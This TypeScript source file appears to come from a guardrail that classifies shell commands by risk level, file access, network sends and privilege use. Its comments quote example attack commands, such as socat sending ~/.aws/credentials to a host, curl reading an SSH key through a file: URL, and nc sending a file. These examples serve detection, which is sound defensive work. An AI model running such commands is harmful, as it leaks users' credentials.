import { ownEntry } from "../../core/index.ts";
/**
 * One simple command → its effect, from the program knowledge tables (data, knowledge/): level, op types,
 * categories, the path words it reads or writes (with their modes), its URLs. The first rule of the
 * program that matches decides (a case statement); otherwise the program's base effect. A program nobody
 * described runs unknown code: `execute` at WRITE, and path-like arguments count as reads.
 */
import { databaseTask } from "./database-tasks.ts";
import { revealedSecret } from "./revealed-secrets.ts";
import { givesToSelf } from "./self-owner.ts";
import { destroyingVerb } from "./destroying-verbs.ts";
import { namedDevice } from "./disk-devices.ts";
import { deleteRequest } from "./delete-requests.ts";
import { destroyingStatement } from "./destroying-statements.ts";
import { destroyedDatabaseFile } from "./database-files.ts";
import { remoteEnvironment } from "./remote-environment.ts";
import { interactiveRemoteShell } from "./remote-shell.ts";
import { hostEscape } from "./host-root.ts";
import { publishesByStructure } from "./publish-tasks.ts";
import { installsFromSource, runsFromAddress } from "./source-installs.ts";
import { sharedLink } from "./shared-links.ts";
import { UNVETTED } from "./knowledge/outside-code.ts";
import { protectionOff } from "./protection-off.ts";
import type { Level, OpType, SkillEntry } from "../../compiler/index.ts";
import {
  FETCHING_RUNNERS,
  JAR_LABEL,
  NEW_PACKAGE_FETCH,
  privilegedLabel,
  type SimpleCommand,
  UNASKED_FETCH,
} from "../shell/index.ts";
import { commandWords, matchesWhen, type CommandWords } from "./command-words.ts";
import { programKnowledge, type Effect, type PathRoles, type Program, type Rule } from "./knowledge/index.ts";
import { hasExpansion } from "./resolve-access.ts";
import { awsFilePath, fileUrlPath, remoteFileName } from "./url-paths.ts";
import { fillsDisk } from "./fills-disk.ts";
import { erasesHistory } from "./audit-trail.ts";
import { attachedProcesses, indirectExpansion, psShowsEnvironment } from "./process-secrets.ts";
import { littleLanguageBomb } from "./little-language-bombs.ts";
import { overloadsMachine } from "./machine-load.ts";
import { oversizedCount } from "./oversized-counts.ts";
import { sedScriptFiles } from "./script-files.ts";
import { sqlScriptFiles } from "./sql-files.ts";
import { skillLevel } from "./skill-level.ts";
import { maxLevel, raisedTo } from "./severity.ts";
import type { AccessMode } from "./types.ts";
import { HOST_CLIENTS } from "./host-clients.ts";
import { outputWrites } from "./output-options.ts";
import { bucketDownload } from "./bucket-copies.ts";
import { transferDownloads } from "./transfer-scripts.ts";
import { madePublic } from "./made-public.ts";
import { listedNames, STDIN_FILES } from "./name-lists.ts";
import { backupNames } from "./in-place-backups.ts";
import { belowListDir, stdinNames } from "./stdin-names.ts";

export interface RawAccess {
  readonly word: string;
  readonly mode: AccessMode;
  readonly via: "argument" | "redirect";
  /** The word had an unquoted glob: bash expands it before the command runs. */
  readonly glob?: boolean;
  /** Whether the word depends on an expansion unknown here, as the shell analysis knows it (a quoted `'a$b'` does not). */
  readonly dynamic: boolean;
  /** The program reads, or writes, the whole tree below the path. */
  readonly recursive?: true;
  /**
   * A tree copy's destination: the source words it copies (`cp -r a b dst` → a, b). Absent when a source
   * cannot be known here (an expansion, a remote `host:path`, stdin): then nobody can say what is written.
   */
  readonly from?: readonly { readonly word: string; readonly glob: boolean }[];
  /** A read by a program whose knowledge does not say what it does with its arguments: it may write them. */
  readonly maybeWrite?: true;
  /** A copy of one file into this one (`cp a b`): the source word. */
  readonly copyOf?: string;
  /** Written with a key the program makes now (PathRoles.generates). */
  readonly generated?: true;
  /** Only the path's name and metadata are touched (PathRoles.metadata). */
  readonly metadata?: true;
  /** The program's own file, written through its own interface (PathRoles.fixed: `git config --global` → ~/.gitconfig). */
  readonly fixed?: true;
  /** The program sends this file out over the network (PathRoles.sends, `@FILE` values, a remote copy's sources, stdin). */
  readonly sent?: true;
}

export interface CommandEffect {
  readonly level: Level;
  readonly types: readonly OpType[];
  readonly categories: readonly string[];
  readonly accesses: readonly RawAccess[];
  readonly urls: readonly string[];
}

/** A folder below a home directory, as written: `~/.config`, `$HOME/.local/share`, `/home/dev/.aws`. */
/** `cd`'s operand `"$(git rev-parse --show-toplevel)"` as the shell layer gives it. */
const REPOSITORY_TOP = /^(?:\$\(git rev-parse --show-toplevel\)|`git rev-parse --show-toplevel`)$/;

const BELOW_HOME = /^(?:~|\$\{?HOME\}?|\/home\/[^/]+|\/Users\/[^/]+|\/root)\/[^/]/;

const MENTIONED: PathRoles = { positional: "read", pathLike: true };

const UNKNOWN: Program = {
  names: [],
  base: { level: "WRITE", types: ["execute"], categories: ["unknown-program"] },
  paths: { positional: "read", pathLike: true },
};

/**
 * The knowledge that judges the command, its words read with that program's options, and the rule that decides. A
 * program known only in some subcommands (`otherwise: "unknown"`) is one nobody described in the others.
 */
function knowledgeOf(cmd: SimpleCommand): { program: Program; words: CommandWords; rule: Rule | undefined } {
  const known = programKnowledge(cmd.program);
  if (known !== undefined) {
    const words = commandWords(cmd, known);
    const rule = known.rules?.find((r) => matchesWhen(r, words));
    if (rule !== undefined || known.otherwise !== "unknown") return { program: known, words, rule };
  }
  return { program: UNKNOWN, words: commandWords(cmd, UNKNOWN), rule: undefined };
}

/**
 * `prog … --help` / `--version` on a program we know prints and exits (GNU and most CLIs handle these first);
 * an unknown program might do anything with them. The hard-deny catalogue still judges the words on its own.
 */
const HELP: ReadonlySet<string> = new Set(["--help", "--version", "-help"]);

/** Wrapper labels whose first word is a privilege wrapper but that run as the user (ADR 0206). */
const AS_THE_USER: ReadonlySet<string> = new Set(["systemd-run --user", "systemd-run --user --timer"]);

/** This machine as an ssh target: loopback names and addresses, its own host name. */
const THIS_HOST =
  /^(?:localhost(?:\.localdomain)?|ip6-localhost|127(?:\.\d{1,3}){3}|::1|\[::1\]|0\.0\.0\.0|\$\(hostname\)|\$\{?HOSTNAME\}?)$/i;
const SSH_CLIENTS = new Set(["ssh", "slogin", "mosh", "autossh"]);

/**
 * root on this machine over ssh (`ssh root@localhost`, `ssh -l root 127.0.0.1 CMD`, docs/adr/0434): a root shell
 * like `sudo -s`, or the command it carries run as root.
 */
function rootHere(cmd: SimpleCommand): boolean {
  const asRoot = (target: string): boolean => {
    const at = target.lastIndexOf("@");
    return at > 0 && target.slice(0, at) === "root" && THIS_HOST.test(target.slice(at + 1));
  };
  if (cmd.context.wrappers.some((w) => w.startsWith("ssh ") && asRoot(w.slice(4)))) return true;
  if (!SSH_CLIENTS.has(cmd.program)) return false;
  const args = cmd.args;
  const login = args.indexOf("-l");
  const user = login >= 0 ? args[login + 1] : undefined;
  return (
    args.some(
      (a, i) =>
        asRoot(a) || (user === "root" && i !== login + 1 && THIS_HOST.test(a)) || /^-oUser=root$|^User=root$/i.test(a),
    ) && args.some((a) => THIS_HOST.test(a.slice(a.lastIndexOf("@") + 1)))
  );
}

/**
 * Effects already worked out, per command: a command is classified by the derive, the staged-code scan and the
 * opaque-code reading, and the analyser hands out the same frozen command for the same text, so a repeated
 * command in a session costs a lookup. The effect depends on nothing else (no filesystem, no clock): the
 * command, the skills (by identity; no skills are one key) and the home.
 */
const classified = new WeakMap<
  SimpleCommand,
  { skills: readonly SkillEntry[]; home: string | undefined; effect: CommandEffect }[]
>();
const NO_SKILLS: readonly SkillEntry[] = [];

/** `home`: the session's home, whose base name is the user files may be given back to (self-owner.ts). */
export function classifyCommand(cmd: SimpleCommand, skills: readonly SkillEntry[], home?: string): CommandEffect {
  const key = skills.length === 0 ? NO_SKILLS : skills;
  const known = classified.get(cmd);
  const hit = known?.find((k) => k.skills === key && k.home === home);
  if (hit !== undefined) return hit.effect;
  const effect = classifyAfresh(cmd, key, home);
  if (known === undefined) classified.set(cmd, [{ skills: key, home, effect }]);
  else known.push({ skills: key, home, effect });
  return effect;
}

function classifyAfresh(cmd: SimpleCommand, skills: readonly SkillEntry[], home: string | undefined): CommandEffect {
  const accesses: RawAccess[] = [];
  for (const r of cmd.redirects) {
    const mode =
      r.mode === "read" ? "read" : r.mode === "write" || r.mode === "append" || r.mode === "readwrite" ? "write" : null;
    if (mode === null) continue;
    if (r.target === null || r.dynamic)
      accesses.push({ word: r.target ?? r.written ?? "$?", mode, via: "redirect", dynamic: true });
    // A redirect carries no mark of code built from an expansion (`eval "echo x > '$F'"`): its text decides.
    else if (!DEVICE_SINKS.has(r.target) && !r.target.startsWith("/dev/fd/"))
      // bash expands a glob in a redirect's target when it yields one file: `> ~/.zsh[r]c` writes ~/.zshrc. The
      // target comes unquoted, so a glob character counts (docs/adr/0290).
      accesses.push({
        word: r.target,
        mode,
        via: "redirect",
        dynamic: hasExpansion(r.target),
        ...(/[*?[]/.test(r.target) ? { glob: true } : {}),
      });
  }
  if (cmd.program === "") return finish(fx0(), accesses, [], cmd);
  const { program, words, rule } = knowledgeOf(cmd);
  let effect: Effect = rule?.then ?? program.base;
  // Files given back to the session's user by name are the `$USER` case of the knowledge's rule (docs/adr/0544).
  if (home !== undefined && effect.categories.includes("permissions") && givesToSelf(cmd, home)) effect = OWN_FILES;
  // Settings and options that raise whatever the subcommand does (`git -c core.sshCommand=… fetch`).
  for (const r of program.raises ?? []) {
    if (!matchesWhen(r, words)) continue;
    effect = {
      level: maxLevel(effect.level, r.then.level),
      types: [...new Set([...effect.types, ...r.then.types])],
      categories: [...new Set([...effect.categories, ...r.then.categories])],
    };
  }
  // The paths are still collected: not every `cat` stops at `--help` (BSD getopt reads `cat key --help`).
  // An option that takes a value is no request for help (`cargo yank --version 1.0.0`, `helm install --version 2 c`).
  if (program !== UNKNOWN && cmd.args.some((a) => HELP.has(a) && !words.options.has(a)))
    effect = { ...effect, level: "READ", types: [] };
  // What a package runner fetches is unknown code, whatever it is called (`npx rm` is the npm package `rm`).
  if (cmd.context.wrappers.some((w) => FETCHING_RUNNERS.has(w))) {
    // Told to fetch a package the project does not have, without asking (`npx -y`, `pnpm dlx`): SECURITY (ADR 0312).
    const unasked = cmd.context.wrappers.some((w) => UNASKED_FETCH.has(w));
    // A package that is no well-known tool (`bunx evil`, `uvx --from evil x`): a new dependency, run at once (ADR 0372).
    const fresh = cmd.context.wrappers.some((w) => NEW_PACKAGE_FETCH.has(w));
    const added = [...(unasked ? ["unvetted-source"] : []), ...(fresh ? ["new-dependency"] : [])];
    effect = {
      ...effect,
      level: maxLevel(effect.level, unasked || fresh ? "SECURITY" : "WRITE"),
      types: [
        ...new Set([...effect.types, "execute" as const, ...(unasked || fresh ? ["read_external" as const] : [])]),
      ],
      categories: [...new Set([...effect.categories, ...added])],
    };
  }
  // What a jar runs is its own code, whatever its file is called: `java -jar ls.jar` is no ls (docs/adr/0483).
  if (cmd.context.wrappers.includes(JAR_LABEL)) effect = raised(effect, RUNS_JAR);
  // A program whose knowledge names no path roles still mentions paths: every argument that looks like one
  // counts as read (`git diff .env`, `openssl … certs/tls.pem`), so credential paths and the sandbox see it.
  const roles = rule?.paths ?? program.paths ?? MENTIONED;
  if (roles !== undefined) {
    const globs = new Set((cmd.globArgs ?? []).map((i) => cmd.args[i]));
    const dynamic = dynamicWord(cmd);
    const tree = readsTrees(roles, cmd.program, words);
    // What an output option, operand or keyword names is written, whatever the program's roles say (ADR 0463).
    // And what a download from a bucket (ADR 0473) or a transfer script's `get` (ADR 0670) lands in.
    const outputs = [
      ...outputWrites(cmd.program, words.args, words.positionals),
      ...bucketDownload(cmd),
      ...transferDownloads(cmd),
    ].filter((w) => w !== "-" && !isUrl(w));
    const roled = pathWords(roles, words, rule?.sub?.length ?? 0);
    const named = [
      ...roled,
      ...outputs
        .filter((word) => !roled.some((r) => r.word === word && r.mode === "write"))
        .map((word): PathWord => ({ word, mode: "write", via: "argument", positional: false })),
    ];
    // A copier (`cp`, `rsync`, `scp`: the last operand is written) writes the tree into its destination, which
    // an option may name instead (`cp -r -t dst src`).
    const copies = tree && roles.last === "write";
    const from = copies
      ? copySources(words.positionals.slice(rule?.sub?.length ?? 0), named, dynamic, globs)
      : undefined;
    const copyOf = tree ? undefined : fileCopySource(roles, named, dynamic, globs);
    for (const { positional, ...a } of named) {
      // A tree reader reads whole trees, and copies them into its destination (`cp -a src dst`, `cp -r -t dst src`).
      // An archive named first (`zip -r out.zip dir`) is one file, not a tree the sources are copied into.
      const recursive =
        a.recursive === true ||
        (tree &&
          (positional
            ? a.mode === "read" || (a.mode === "write" && roles.first !== "write")
            : copies && a.mode === "write"));
      const copied = recursive && a.mode === "write" && from !== undefined ? { from } : {};
      // A program rulegate knows nothing about may write what it names (`sd a b f`, `mmv x y`).
      const unsure = program === UNKNOWN && a.mode === "read" ? { maybeWrite: true as const } : {};
      const single = copyOf !== undefined && positional && a.mode === "write" ? { copyOf } : {};
      const made = roles.generates === true && a.mode === "write" ? { generated: true as const } : {};
      // The top of the cwd's repository that `cd` enters is the cwd or an ancestor: a place, no secret (ADR 0775).
      const top = cmd.program === "cd" && positional && dynamic(a.word) && REPOSITORY_TOP.test(a.word);
      const meta =
        (roles.metadata === true && positional) || (roles.derivedPublic === true && a.mode === "read") || top
          ? { metadata: true as const }
          : {};
      // A remote copy's sources (`scp ~/x host:`, `rsync -a dir host:`) go out over the network.
      const out =
        positional && a.mode === "read" && roles.last === "write" && effect.types.includes("write_external")
          ? { sent: true as const }
          : {};
      const access: RawAccess = {
        ...a,
        dynamic: dynamic(a.word),
        ...(recursive ? { recursive: true as const } : {}),
        ...copied,
        ...unsure,
        ...single,
        ...made,
        ...meta,
        ...out,
      };
      accesses.push(globs.has(a.word) ? { ...access, glob: true } : access);
    }
    // A file: URL reads a local file, whatever program fetches it (`curl file:///home/u/.ssh/id_rsa`); the AWS CLI's
    // `file://` and `fileb://` parameters name one as written (docs/adr/0673).
    for (const arg of cmd.args) {
      const local = (cmd.program === "aws" ? awsFilePath(arg) : null) ?? fileUrlPath(arg);
      if (local !== null) accesses.push({ word: local, mode: "read", via: "argument", dynamic: dynamic(arg) });
    }
    // xargs and parallel append arguments read from stdin: paths nobody can see here. Operands a program only
    // counts or lists (`xargs -a files.txt wc -l`, `… | xargs stat`) are metadata reads, known or not (ADR 0774).
    if (roles.positional !== undefined && cmd.context.argsFromStdin) {
      accesses.push({
        word: `(arguments ${cmd.context.wrappers.join(" ")} reads from stdin)`,
        mode: roles.positional,
        via: "argument",
        dynamic: true,
        ...(roles.metadata === true && roles.positional === "read" ? { metadata: true as const } : {}),
      });
    }
  }
  // A framework task that drops or rebuilds a database is a DROP DATABASE by another name (docs/adr/0215).
  if (databaseTask(cmd) !== null)
    effect = {
      level: maxLevel(effect.level, "DESTRUCTIVE"),
      types: [...new Set([...effect.types, "write_external" as const])],
      categories: [...new Set([...effect.categories, "database"])],
    };
  // A tool that prints the secrets it holds or finds reads them as `cat` of their file would (docs/adr/0540).
  if (revealedSecret(cmd) !== null) effect = raised(effect, REVEALS_SECRET);
  // Destruction said in words any CLI uses: an unknown program's destroying verb (docs/adr/0480), an HTTP DELETE
  // (docs/adr/0481), a statement or ORM call that drops what it names (docs/adr/0482).
  if (program === UNKNOWN && destroyingVerb(cmd) !== null) effect = raised(effect, DESTROYS);
  // A disk named anywhere in an unknown program's words: it may write the whole disk (docs/adr/0632).
  if (program === UNKNOWN && namedDevice(cmd) !== null) effect = raised(effect, NAMES_DISK);
  if (deleteRequest(cmd) !== null) effect = raised(effect, DELETE_REQUEST);
  // A protection taken away by a cloud CLI's modify/update/set verb (docs/adr/0513).
  if (protectionOff(cmd) !== null)
    effect = raised(effect, { ...PROTECTION_OFF, level: raisedTo(effect.level, PROTECTION_OFF.level) });
  if (destroyingStatement(cmd, program !== UNKNOWN) !== null) effect = raised(effect, DATABASE_DESTROY);
  // A publishing task or uploader named by structure, not by table (docs/adr/0340): `./gradlew publishToMavenCentral`.
  if (publishesByStructure(cmd, program !== UNKNOWN))
    effect = {
      level: maxLevel(effect.level, "DESTRUCTIVE"),
      types: [...new Set([...effect.types, "write_external" as const, "read_local" as const])],
      categories: [...new Set([...effect.categories, "network", "publication"])],
    };
  // Something private made public by any program's words: `--visibility public`, `--private=false` (docs/adr/0552).
  if (effect.level !== "READ" && madePublic(cmd) !== null) effect = raised(effect, MADE_PUBLIC);
  // A link that opens stored data to whoever holds it: a presigned URL, a SAS token, a share link (docs/adr/0731).
  if (sharedLink(cmd) !== null && !cmd.args.some((a) => HELP.has(a))) effect = raised(effect, SHARED_LINK);
  // An install from an address, git remote or forge shorthand by an installer nobody described (docs/adr/0492).
  if (program === UNKNOWN && (installsFromSource(words) || runsFromAddress(words)))
    effect = {
      level: maxLevel(effect.level, UNVETTED.level),
      types: [...new Set([...effect.types, ...UNVETTED.types])],
      categories: [...new Set([...effect.categories, ...UNVETTED.categories])],
    };
  const skill = skillLevel(cmd, words, skills);
  // Labels only tighten (docs/adr/0112): for a program the knowledge describes, a label may raise the level, never lower it.
  if (skill !== null) {
    effect =
      program === UNKNOWN
        ? { ...effect, level: skill, types: skill === "READ" ? ["read_local"] : ["execute"] }
        : { ...effect, level: maxLevel(effect.level, skill) };
  }
  return finish(effect, accesses, [...urlsOf(cmd, words), ...remoteHosts(cmd, words)], cmd);
}

const MADE_PUBLIC: Effect = { level: "SECURITY", types: ["write_external"], categories: ["network", "publication"] };
const SHARED_LINK: Effect = { level: "SECURITY", types: ["write_external"], categories: ["network", "shared-link"] };
const OWN_FILES: Effect = { level: "WRITE", types: ["write_local"], categories: ["filesystem"] };
const REVEALS_SECRET: Effect = { level: "SECURITY", types: ["credential_access"], categories: ["credentials"] };
const RUNS_JAR: Effect = { level: "WRITE", types: ["execute"], categories: ["code"] };
const DESTROYS: Effect = { level: "DESTRUCTIVE", types: ["write_external"], categories: ["destroying-verb"] };
const DELETE_REQUEST: Effect = {
  level: "DESTRUCTIVE",
  types: ["write_external"],
  categories: ["network", "http-delete"],
};
const PROTECTION_OFF: Effect = {
  level: "SECURITY",
  types: ["write_external"],
  categories: ["cloud", "protection-off"],
};
const NAMES_DISK: Effect = { level: "DESTRUCTIVE", types: ["write_local"], categories: ["filesystem", "disk"] };
const DATABASE_DESTROY: Effect = { level: "DESTRUCTIVE", types: ["write_external"], categories: ["database"] };

/** The effect raised to another's level, with its types and categories added. */
function raised(effect: Effect, by: Effect): Effect {
  return {
    level: maxLevel(effect.level, by.level),
    types: [...new Set([...effect.types, ...by.types])],
    categories: [...new Set([...effect.categories, ...by.categories])],
  };
}

/**
 * Whether a path word depends on what is unknown here, as the shell analysis saw it: when an unknown argument
 * holds its text (`"$F"`, find's `{}`, and `$D` cut out of `-v "$D:/k"`, even beside a literal `'$D'`); a
 * whole argument with a `$` in quotes is literal (`cat 'a$b'`); a word cut out of an argument keeps the
 * conservative reading of its text (`--in='a$b'`).
 */
function dynamicWord(cmd: SimpleCommand): (word: string) => boolean {
  const unknown = (cmd.unknownArgs ?? []).map((i) => cmd.args[i] ?? "");
  const whole = new Set(cmd.args);
  return (word) => unknown.some((u) => u.includes(word)) || (!whole.has(word) && hasExpansion(word));
}

/**
 * The sources of a tree copy (`cp -r a b dst`, `rsync -a src/ dst/`, `cp -r -t dst a b`): every operand but the
 * destination, which is the last one unless an option names it. undefined when one of them cannot be known
 * here: an expansion, a remote `host:path`, a URL, stdin.
 */
function copySources(
  operands: readonly string[],
  named: readonly PathWord[],
  dynamic: (word: string) => boolean,
  globs: ReadonlySet<string | undefined>,
): RawAccess["from"] {
  const sources = named.some((n) => !n.positional && n.mode === "write") ? operands : operands.slice(0, -1);
  if (sources.length === 0) return undefined;
  if (sources.some((s) => s === "" || s === "-" || isUrl(s) || REMOTE_SPEC.test(s) || dynamic(s))) return undefined;
  return sources.map((word) => ({ word, glob: globs.has(word) }));
}

/**
 * The one literal source of a plain file copy (`cp .env.example .env`: two operands, the last written), or
 * undefined: more sources, a glob, an expansion, a remote or a URL.
 */
function fileCopySource(
  roles: PathRoles,
  named: readonly PathWord[],
  dynamic: (word: string) => boolean,
  globs: ReadonlySet<string | undefined>,
): string | undefined {
  if (roles.last !== "write" || roles.positional !== "read") return undefined;
  const operands = named.filter((n) => n.positional);
  if (operands.length !== 2 || named.length !== 2) return undefined;
  const [source, dest] = operands as [PathWord, PathWord];
  if (
    source.mode !== "read" ||
    dest.mode !== "write" ||
    dynamic(source.word) ||
    globs.has(source.word) ||
    REMOTE_SPEC.test(source.word)
  )
    return undefined;
  return source.word;
}

/** Whether the program reads whole directory trees here (`rg`, `tar c`, `grep -r`, `cp -a`). */
function readsTrees(roles: PathRoles, program: string, words: CommandWords): boolean {
  const when = roles.recursive === undefined ? undefined : ownEntry(roles.recursive, program);
  return when === true || (when?.some((f) => words.flags.has(f)) ?? false);
}

const DEVICE_SINKS = new Set(["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero"]);

function fx0(): Effect {
  return { level: "READ", types: [], categories: [] };
}

function finish(
  effect: Effect,
  given: readonly RawAccess[],
  urls: readonly string[],
  cmd: SimpleCommand,
): CommandEffect {
  // What a network client reads on stdin (`nc host 9 < file`, `curl -T - url < file`) is what it sends.
  const accesses = effect.types.includes("write_external")
    ? given.map((a): RawAccess => (a.via === "redirect" && a.mode === "read" ? { ...a, sent: true } : a))
    : given;
  let level = effect.level;
  const types = new Set<OpType>(effect.types);
  const categories = new Set(effect.categories);
  if (accesses.some((a) => a.mode === "write" || a.mode === "delete")) {
    types.add("write_local");
    level = maxLevel(level, "WRITE");
  }
  if (accesses.some((a) => a.mode === "read")) types.add("read_local");
  // nsenter enters another process's namespaces: as root, the host's own (docs/adr/0336).
  const privileged = (w: string): boolean =>
    (privilegedLabel(w) || w.split(" ")[0] === "nsenter") && !AS_THE_USER.has(w);
  if (cmd.context.wrappers.some(privileged) || rootHere(cmd)) {
    categories.add("privileged");
    // A read that names no file and no address (`sudo systemctl status docker`, `sudo iptables -L`, `sudo fdisk
    // -l`, `sudo -n true`) shows system state: root reaches nothing more through it (docs/adr/0573).
    // Only for root as such, by the usual doors: not other namespaces (nsenter), a group (sg docker), a kept
    // environment (`sudo -E`), added capabilities, or a root login (ssh root@host).
    const plainRoot = !rootHere(cmd) && cmd.context.wrappers.filter(privileged).every((w) => PLAIN_ROOT.has(w));
    const names = accesses.length > 0 || urls.length > 0;
    if (!(plainRoot && effect.level === "READ" && !names && effect.types.every(local)))
      level = maxLevel(level, "SECURITY");
  }
  // `docker exec --privileged C CMD`: the command runs with every capability, able to reach the host (ADR 0336).
  if (cmd.context.wrappers.some((w) => / --privileged /.test(w))) {
    categories.add("host-access");
    level = maxLevel(level, "SECURITY");
  }
  // A shell opened in a container or pod with nothing to run: its commands come later, unseen (docs/adr/0383).
  if (hostEscape(cmd, accesses) !== null) {
    types.add("execute");
    categories.add("host-access");
    level = maxLevel(level, "SECURITY");
  }
  if (interactiveRemoteShell(cmd) !== null) {
    types.add("execute");
    categories.add("remote-code");
    level = maxLevel(level, "SECURITY");
  }
  if (cmd.context.executesStdin) {
    types.add("execute");
    categories.add("unknown-code");
    level = maxLevel(level, "DESTRUCTIVE");
  }
  // A database file deleted, truncated or overwritten is the database dropped (docs/adr/0302).
  if (destroyedDatabaseFile(accesses) !== null) {
    categories.add("database");
    level = maxLevel(level, "DESTRUCTIVE");
  }
  if (remoteEnvironment(cmd) !== null) {
    types.add("credential_access");
    categories.add("credentials");
    level = maxLevel(level, "SECURITY");
  }
  // Another process's memory, or every process's or variable's value, read at once (docs/adr/0431).
  if (attachedProcesses(cmd) !== null || psShowsEnvironment(cmd) || indirectExpansion(cmd) !== null) {
    types.add("credential_access");
    categories.add("credentials");
    level = maxLevel(level, "SECURITY");
  }
  if (erasesHistory(cmd) !== null) {
    categories.add("audit-trail");
    level = maxLevel(level, "SECURITY");
  }
  if (
    fillsDisk(cmd) !== null ||
    overloadsMachine(cmd) !== null ||
    oversizedCount(cmd) !== null ||
    littleLanguageBomb(cmd) !== null
  ) {
    categories.add("resource-exhaustion");
    level = maxLevel(level, "EXPENSIVE");
  }
  return { level, types: [...types], categories: [...categories], accesses, urls };
}

/** The privilege wrappers that make the command root and nothing else (docs/adr/0573). */
const PLAIN_ROOT: ReadonlySet<string> = new Set(["sudo", "doas", "run0", "pkexec"]);

/** Types of an effect that stays on this machine and reads or runs nothing secret. */
const local = (t: OpType): boolean => t === "read_local" || t === "execute";

/** The words a program's path roles name, with their access modes. */
type PathWord = Omit<RawAccess, "dynamic"> & { readonly positional: boolean };

/**
 * How pathWords takes a word: mayBePath keeps it under `pathLike` roles even when it does not look like a path,
 * positional marks an operand, sent marks what the program sends elsewhere.
 */
interface AddHow {
  readonly mayBePath?: boolean;
  readonly positional?: boolean;
  readonly sent?: boolean;
  /** The whole tree below the path is reached (a mounted folder). */
  readonly recursive?: boolean;
}

function pathWords(roles: PathRoles, w: CommandWords, subLength: number): PathWord[] {
  const out: PathWord[] = [];
  const add = (word: string, mode: AccessMode, how: AddHow = {}): void => {
    const { mayBePath = false, positional = false, sent = false, recursive = false } = how;
    if (word === "" || word === "-" || isUrl(word)) return;
    // A remote copy's operand that is no `host:` spec is a local path, however bare (`rsync -a src host:x`).
    const local = mayBePath || (roles.remoteCopy === true && positional) || looksLikePath(word);
    if (roles.pathLike === true && (!local || REMOTE_SPEC.test(word))) return;
    out.push({
      word,
      mode,
      via: "argument",
      positional,
      ...(sent ? { sent: true as const } : {}),
      ...(recursive ? { recursive: true as const } : {}),
    });
  };
  if (roles.positional !== undefined) {
    const skipped = roles.skipUnless?.some((o) => w.options.has(o)) === true ? 0 : (roles.skip ?? 0);
    const operands = w.positionals.slice(subLength + skipped);
    const within = baseDirs(roles, w);
    operands.forEach((word, i) =>
      add(
        relativeTo(within, w.positionalAt[subLength + skipped + i] ?? 0, word),
        roles.first !== undefined && i === 0
          ? roles.first
          : roles.last !== undefined && operands.length >= 2 && i === operands.length - 1
            ? roles.last
            : roles.positional!,
        { positional: true },
      ),
    );
  }
  for (const [word, mode] of Object.entries(roles.fixed ?? {}))
    out.push({ word, mode, via: "argument", positional: false, fixed: true });
  if (roles.extractsTo !== undefined) {
    const into = roles.extractsTo.flatMap((o) => (o.startsWith("/") ? [o] : (w.options.get(o) ?? [])))[0] ?? ".";
    out.push({ word: into, mode: "write", via: "argument", positional: false, recursive: true });
  }
  if (roles.remoteName !== undefined) out.push(...remoteNameWrites(roles.remoteName, w, subLength));
  if (roles.script === "sed") {
    const scripts = roles.skipUnless?.some((o) => w.options.has(o))
      ? [...(w.options.get("-e") ?? []), ...(w.options.get("--expression") ?? [])]
      : w.positionals.slice(subLength, subLength + 1);
    for (const f of scripts.flatMap(sedScriptFiles)) out.push({ ...f, via: "argument", positional: false });
  }
  if (roles.stdinNames !== undefined && w.stdin !== undefined) {
    const at = (roles.stdinNames.options ?? []).flatMap((o) =>
      (w.options.get(o) ?? []).flatMap((v, i) => (STDIN_FILES.includes(v) ? [w.optionAt.get(o)?.[i] ?? 0] : [])),
    )[0];
    // The names are read like operands: below the `-C DIR` given before them (`printf '.ssh' | tar -C ~ -czf x -T -`),
    // and as whole trees where the program reads trees (`printf '..' | tar czf x -T -`, docs/adr/0786).
    const within = baseDirs(roles, w);
    // Names from another command's output: what a lister prints when it can be said, else names nobody can see
    // here, which may be credential paths (`ls ~/.ssh/* | cpio -o`, docs/adr/0626).
    const lines =
      w.stdin.text !== null ? stdinNames(w.stdin.text).map(belowListDir) : (w.stdin.listed ?? [STDIN_NAMES]);
    if (roles.stdinNames.always === true || at !== undefined)
      for (const line of lines)
        if (line !== "")
          out.push({
            word: relativeTo(within, at ?? w.args.length, line),
            mode: "read",
            via: "argument",
            positional: true,
          });
  }
  if (roles.inPlaceBackup === true)
    for (const word of backupNames(w.args, w.positionals.slice(subLength)))
      out.push({ word, mode: "write", via: "argument", positional: false });
  if (roles.nameLists !== undefined) {
    const within = baseDirs(roles, w);
    const { options = [], sevenZip = false, listOnly = false } = roles.nameLists;
    for (const n of listedNames(options, sevenZip, w)) {
      if (n.kind === "list") out.push({ word: n.word, mode: "read", via: "argument", positional: false });
      else if (!listOnly)
        out.push({
          word: relativeTo(within, n.at, n.word),
          mode: "read",
          via: "argument",
          positional: false,
          ...(n.kind === "member" ? { recursive: true as const } : {}),
        });
    }
  }
  if (roles.script === "sql") {
    const texts = [...w.positionals.slice(subLength), ...[...w.options.values()].flat(), w.stdin?.text ?? ""];
    for (const f of texts.flatMap(sqlScriptFiles)) out.push({ ...f, via: "argument", positional: false });
  }
  if (roles.served !== undefined) {
    const dir =
      rawOption(w.args, roles.served.options) ??
      (roles.served.positional === true ? w.positionals[subLength] : undefined) ??
      ".";
    out.push({ word: dir, mode: "read", via: "argument", positional: false, recursive: true });
  }
  const optionsDir = (roles.optionsWithin ?? []).flatMap((o) => w.options.get(o) ?? []).at(-1);
  const inOptionsDir = (v: string): string =>
    optionsDir === undefined || roles.optionsWithin?.includes(v) || v.startsWith("/") || v.startsWith("~")
      ? v
      : `${optionsDir.replace(/\/+$/, "")}/${v}`;
  for (const [opt, mode] of Object.entries(roles.options ?? {}))
    for (const v of w.options.get(opt) ?? [])
      add(roles.optionsWithin?.includes(opt) ? v : inOptionsDir(v), mode, {
        sent: roles.sends?.includes(opt) === true,
      });
  for (const opt of roles.atFiles ?? []) {
    for (const v of w.options.get(opt) ?? []) {
      const at =
        /^(?:[^=@<]*[=])?[@<](.+)$/.exec(v) ?? (roles.namedAtFiles?.includes(opt) ? /^[^=@]*@(.+)$/.exec(v) : null);
      if (at?.[1] !== undefined) add(at[1].replace(FORM_PARAMETERS, ""), "read", { sent: true });
    }
  }
  if (roles.requestItems === true)
    for (const f of requestItemFiles(w.positionals.slice(subLength))) add(f, "read", { sent: true, mayBePath: true });
  // Address operands that name files (`socat -u FILE:~/.aws/credentials TCP:host:9`).
  for (const word of w.positionals.slice(subLength)) {
    const m = /^([A-Za-z-]+):([^,]+)/.exec(word);
    const mode =
      m === null
        ? undefined
        : roles.addresses === undefined
          ? undefined
          : ownEntry(roles.addresses, m[1]!.toUpperCase());
    if (mode !== undefined) add(m![2]!, mode, { mayBePath: true, sent: mode === "read" });
  }
